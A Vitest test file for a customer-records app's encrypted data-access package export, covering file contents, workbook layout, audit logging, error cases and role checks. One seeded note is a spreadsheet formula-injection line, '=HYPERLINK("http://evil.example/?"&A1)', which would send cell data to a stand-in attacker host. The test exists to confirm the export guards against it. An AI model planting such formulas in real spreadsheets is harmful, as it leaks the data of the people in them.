import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { expect, it } from 'vitest';
import { describeKeychain } from '../support/keyring';
import { tempDir } from '../support/tmp';
import { MARKERS, ROLE_LIST, accessWorld } from './access-helpers';
import { OTHER, OTHER_TEXTS, openPackage, refusesWrongPassword, seedPerson, type World } from './access-package-helpers';
import { verifiedRequest } from './request-steps-helpers';
import { OWNER } from './vault-helpers';

/** Issue 16: a customer's access package through the router, on a real SQLCipher vault. */
const FILE_NAME = /^coffer-access-\d{8}-[0-9a-f]{8}\.zip$/;

const packageRows = (world: World) =>
  world.core.vault.db().prepare("SELECT username, record_id AS recordId, outcome, fields, reason FROM audit_log WHERE action = 'customer.accessPackage' ORDER BY id").all() as {
    username: string;
    recordId: string;
    outcome: string;
    fields: string;
    reason: string;
  }[];

async function saved(world: World, input: unknown) {
  const answer = await world.router.dispatch(world.caller('owner'), 'privacy.accessPackage', input);
  if (!answer.ok) throw new Error(`${answer.error.code} ${answer.error.message}`);
  const value = answer.value as { status: string; fileName: string; password: string; sha256: string; contents: { section: string; rows: number }[] };
  expect(value.status).toBe('saved');
  return value;
}

describeKeychain('access package (issue 16)', () => {
  it('holds everything about the person, in .xlsx and JSON, and nothing of another customer or any staff username', async () => {
    const folder = tempDir('coffer-access-out-');
    const world = await accessWorld({ pickFolder: async () => folder });
    await seedPerson(world);
    expect(await world.router.dispatch(world.caller('owner'), 'settings.setShopProfile', { name: 'Tea House', currency: 'CNY' })).toMatchObject({ ok: true });
    const requestId = await verifiedRequest(world, 'access', [1]);
    const answer = await saved(world, { customerId: 1, requestId });

    // The file: named without personal data, alone in the folder (no temp file left), hash as answered.
    expect(answer.fileName).toMatch(FILE_NAME);
    expect(fs.readdirSync(folder)).toEqual([answer.fileName]);
    const bytes = fs.readFileSync(path.join(folder, answer.fileName));
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(answer.sha256);
    expect(answer.password).toMatch(/^[A-HJKMNP-Z2-9]{4}(-[A-HJKMNP-Z2-9]{4}){3}$/);
    expect(await refusesWrongPassword(bytes)).toBe(true);
    // Encrypted: not a readable byte of the person in the file itself.
    for (const plain of ['王伟', MARKERS.mobile, MARKERS.email, 'Green tea']) expect(bytes.includes(Buffer.from(plain))).toBe(false);

    const opened = await openPackage(bytes, answer.password);
    expect(opened.names.sort()).toEqual(['README.txt', 'access-package.json', 'access-package.xlsx']);
    const { sections } = opened.json;
    expect(opened.json.requestId).toBe(requestId);
    expect(opened.json.contents).toEqual(answer.contents);
    expect(answer.contents.map((c) => c.section)).toEqual(expect.arrayContaining(['record', 'interactions', 'purchases', 'tags', 'reminders', 'imports', 'merges']));
    expect(sections.record).toEqual([expect.objectContaining({ name: '王伟', ...MARKERS, owner: 'sales one' })]);
    // Its own two, and the one that came with the merged duplicate.
    expect(sections.interactions!.map((i) => i.summary)).toEqual(['Visited the shop (before the merge)', 'Asked about the spring tea', '=HYPERLINK("http://evil.example/?"&A1)']);
    expect(sections.purchases).toEqual([expect.objectContaining({ item: 'Green tea 500g', amount: '128.00', currency: 'CNY', amountMinor: 12800, note: 'gift wrap', recordedBy: OWNER.displayName })]);
    expect(sections.tags).toEqual([{ tag: 'vip' }]);
    expect(sections.reminders).toEqual([expect.objectContaining({ note: 'Follow up on the tea order', status: 'open', assignedTo: 'sales one' })]);
    expect(sections.imports).toEqual([expect.objectContaining({ action: 'update', rowInFile: 2, fileFormat: 'xlsx', importedBy: 'manager one' })]);
    expect(sections.merges).toEqual([expect.objectContaining({ role: 'kept record', recordsCombined: 2, mergedBy: OWNER.displayName, undoneAt: null })]);

    // The workbook: a cover first, then one sheet per section; a formula-looking text is guarded.
    expect(opened.book.SheetNames).toEqual(['About 说明', ...answer.contents.map((c) => c.section)]);
    const cover = opened.book.Sheets['About 说明']!;
    expect(cover.B2?.v).toBe('Tea House');
    expect(cover.B3?.v).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}/);
    const notes = opened.book.Sheets.interactions!;
    const cells = Object.values(notes).filter((c): c is { v: string; t: string; f?: string } => typeof c === 'object' && c !== null && 'v' in c);
    expect(cells.some((c) => c.v === `'=HYPERLINK("http://evil.example/?"&A1)`)).toBe(true);
    expect(cells.every((c) => c.t === 's' && c.f === undefined)).toBe(true);
    // The ID number keeps all 18 characters (text, never a number).
    expect(opened.book.Sheets.record!['!ref']).toBeDefined();
    expect(opened.text).toContain(MARKERS.idNumber);

    // Never another customer's values, never a staff username (display names only).
    for (const value of [...Object.values(OTHER), ...OTHER_TEXTS, 'Owner Customer']) expect(opened.text, value).not.toContain(value);
    // (The owner's username 'anna' is part of its display name 'Anna Example', so it is not checked.)
    for (const username of ROLE_LIST.filter((r) => r !== 'owner').map((r) => `${r}1`)) {
      expect(opened.text.toLowerCase(), username).not.toMatch(new RegExp(`\\b${username}\\b`));
    }
    world.core.close();
  });

  it('audits the hash and the contents list (names and counts) before answering, never the password', async () => {
    const folder = tempDir('coffer-access-out-');
    const world = await accessWorld({ pickFolder: async () => folder });
    await seedPerson(world);
    const answer = await saved(world, { customerId: 1 });
    const rows = packageRows(world);
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    expect(row).toMatchObject({ username: OWNER.username, recordId: '1', outcome: 'ok' });
    expect(JSON.parse(row.fields)).toEqual(answer.contents.map((c) => c.section));
    expect(row.reason).toBe(`sha256=${answer.sha256} request=- rows=${answer.contents.map((c) => `${c.section}:${c.rows}`).join(',')}`);
    // The password is nowhere in the log, in any column of any row.
    const log = JSON.stringify(world.core.vault.db().prepare('SELECT * FROM audit_log').all());
    expect(log).not.toContain(answer.password);
    expect(log).not.toContain(answer.password.replace(/-/g, ''));
    // Each package has its own password and file.
    const second = await saved(world, { customerId: 1, requestId: null });
    expect(second.password).not.toBe(answer.password);
    expect(second.fileName).not.toBe(answer.fileName);
    expect(packageRows(world)).toHaveLength(2);
    world.core.close();
  });

  it('bad input, an unknown or deleted customer, another role: a typed error, no dialog, nothing written or audited as a package', async () => {
    const folder = tempDir('coffer-access-out-');
    let dialogs = 0;
    const world = await accessWorld({ pickFolder: async () => (dialogs++, folder) });
    await world.router.dispatch(world.caller('owner'), 'customers.delete', { id: 3 });
    const owner = world.caller('owner');
    for (const input of [{}, { customerId: 0 }, { customerId: -1 }, { customerId: 1.5 }, { customerId: '1' }, { customerId: 1, requestId: 0 }, { customerId: 1, requestId: -2 }, { customerId: 1, requestId: 2.5 }, { customerId: 1, requestId: '3' }, { customerId: 1, extra: true }]) {
      expect(await world.router.dispatch(owner, 'privacy.accessPackage', input), JSON.stringify(input)).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
    }
    for (const customerId of [999, 3]) {
      expect(await world.router.dispatch(owner, 'privacy.accessPackage', { customerId })).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
    }
    for (const role of ROLE_LIST.filter((r) => r !== 'owner')) {
      expect(await world.router.dispatch(world.caller(role), 'privacy.accessPackage', { customerId: 1 }), role).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
      expect(await world.router.dispatch(world.caller(role), 'privacy.accessPackageProgress', {}), role).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    }
    expect(dialogs).toBe(0);
    expect(fs.readdirSync(folder)).toEqual([]);
    expect(packageRows(world)).toEqual([]);
    world.core.close();
  });

  it('a cancelled folder dialog writes and audits nothing; progress names the step while it runs', async () => {
    const folder = tempDir('coffer-access-out-');
    let answerDialog: (value: string | null) => void = () => undefined;
    const world = await accessWorld({ pickFolder: () => new Promise((resolve) => (answerDialog = resolve)) });
    const progress = () => world.router.dispatch(world.caller('owner'), 'privacy.accessPackageProgress', {});
    expect(await progress()).toEqual({ ok: true, value: { step: null } });
    const pending = world.router.dispatch(world.caller('owner'), 'privacy.accessPackage', { customerId: 1 });
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(await progress()).toEqual({ ok: true, value: { step: 'folder' } });
    // One at a time per user.
    expect(await world.router.dispatch(world.caller('owner'), 'privacy.accessPackage', { customerId: 2 })).toMatchObject({ ok: false, error: { code: 'CONFLICT' } });
    answerDialog(null);
    expect(await pending).toEqual({ ok: true, value: { status: 'cancelled' } });
    expect(await progress()).toEqual({ ok: true, value: { step: null } });
    expect(fs.readdirSync(folder)).toEqual([]);
    expect(packageRows(world)).toEqual([]);
    world.core.close();
  });

  it('a folder that cannot be written: STORAGE_UNAVAILABLE, no file, no package audit row', async () => {
    const world = await accessWorld({ pickFolder: async () => path.join(tempDir('coffer-access-out-'), 'does-not-exist') });
    const answer = await world.router.dispatch(world.caller('owner'), 'privacy.accessPackage', { customerId: 1 });
    expect(answer.ok).toBe(false);
    expect(answer).toMatchObject({ ok: false, error: { code: 'STORAGE_UNAVAILABLE' } });
    expect(JSON.stringify(answer)).not.toContain('王伟');
    expect(packageRows(world)).toEqual([]);
    world.core.close();
  });
});
